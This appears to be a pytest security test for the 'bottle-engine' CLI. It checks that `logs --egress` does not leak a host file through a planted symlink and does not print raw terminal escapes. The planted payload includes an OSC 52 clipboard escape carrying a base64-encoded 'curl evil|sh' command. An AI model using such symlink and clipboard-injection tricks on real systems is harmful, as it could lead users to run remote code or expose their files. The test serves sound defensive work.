"""`bottle-engine logs SLUG --egress` against a bundle the agent's traffic took over, on the real
daemon: from inside the bundle container (as its own user) the audit log's names are replaced
by a link to a host file, a line of terminal escapes and a rotation `int()` cannot read. The
command the person runs (and the editor's "Follow egress log" terminal) must print none of it
raw, and keep working."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from bottle_engine.bundle.config import STATE_MOUNT
from bottle_engine.cli import main
from tests.bottle_fixtures import BottleWorld, running_bottle, world_env

pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.escape]

# Run in the bundle: argv[1] is a host path, only meaningful to whoever follows the link there.
PLANT = """
import os, sys
state = "{state}"
os.symlink(sys.argv[1], state + "/link.tmp")
os.replace(state + "/link.tmp", state + "/egress.jsonl")
with open(state + "/egress.jsonl.1", "w") as out:
    out.write("\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2K\\n")
with open(state + "/egress.jsonl.\\u00b2", "w") as out:
    out.write("junk\\n")
"""


def test_a_hostile_bundle_cannot_turn_logs_egress_against_the_person(
    bottle_world: BottleWorld,
    docker_client: Any,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    host_file = tmp_path / "host-only.jsonl"  # a line that would pass for an audit entry
    host_file.write_text(
        json.dumps(
            {
                "time": "t",
                "method": "GET",
                "host": "host-only-secret.test",
                "port": 443,
                "decision": "deny",
                "kind": "http",
            }
        )
        + "\n"
    )
    with running_bottle(bottle_world, "probe") as record:
        bundle = docker_client.containers.get(record.bundle_name)
        code, output = bundle.exec_run(
            ["python3", "-c", PLANT.format(state=STATE_MOUNT), str(host_file)]
        )
        assert code == 0, output  # the bundle can: the dir is its own
        capsys.readouterr()
        with world_env(bottle_world):
            assert main(["logs", record.slug, "--egress"]) == 0
        out = capsys.readouterr().out
    assert "host-only-secret" not in out
    assert "\x1b" not in out and "\x07" not in out
